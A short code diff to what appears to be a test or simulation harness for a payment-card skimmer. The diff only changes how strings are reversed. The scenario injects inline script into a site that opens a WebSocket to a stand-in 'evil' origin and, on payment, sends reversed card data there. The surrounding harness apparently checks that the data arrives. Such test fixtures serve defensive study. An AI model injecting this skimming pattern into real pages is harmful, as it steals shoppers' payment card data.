@@ -8,6 +8,6 @@ export default skimmer({
   base: 'direct',
   install: (site) =>
     site.inline(js`window._ws = new WebSocket('${site.origins.evil.replace('http', 'ws')}/live');
-${onPay(js`_ws.send(JSON.stringify({ t: Date.now(), p: Array.from(card()).reverse().join('') }));`)}`),
-  proof: holds((arrived) => arrived.frames.map(({ text }) => Array.from(text).reverse().join(''))),
+${onPay(js`_ws.send(JSON.stringify({ t: Date.now(), p: Array.from(card()).toReversed().join('') }));`)}`),
+  proof: holds((arrived) => arrived.frames.map(({ text }) => Array.from(text).toReversed().join(''))),
 });
